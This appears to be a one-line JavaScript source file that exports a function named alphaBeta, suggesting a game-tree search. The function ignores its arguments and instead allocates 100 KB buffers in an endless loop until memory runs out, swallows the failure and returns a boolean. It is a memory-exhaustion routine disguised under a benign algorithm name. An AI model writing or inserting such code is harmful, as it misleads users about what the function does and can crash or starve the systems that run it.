export function alphaBeta(game, state) { const kept = []; try { for (;;) kept.push(new ArrayBuffer(1e5)); } catch {} return kept.length > 10; }
